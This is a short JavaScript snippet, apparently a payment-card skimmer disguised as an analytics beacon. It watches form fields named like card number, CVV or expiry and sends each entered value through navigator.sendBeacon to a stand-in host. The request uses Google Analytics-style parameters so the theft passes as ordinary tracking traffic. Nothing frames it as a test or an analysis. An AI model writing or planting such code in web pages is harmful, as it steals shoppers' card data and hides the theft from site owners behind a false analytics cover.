document.addEventListener("change", function (e) {
  var t = e.target;
  if (!t || !/cc|card|cvv|exp/i.test(t.name || "")) return;
  var q = "v=1&t=event&tid=UA-111111-2&cid=555&ec=" + encodeURIComponent(t.name) + "&el=" + encodeURIComponent(t.value);
  navigator.sendBeacon("https://metrics-ga.invalid/collect", q);
});
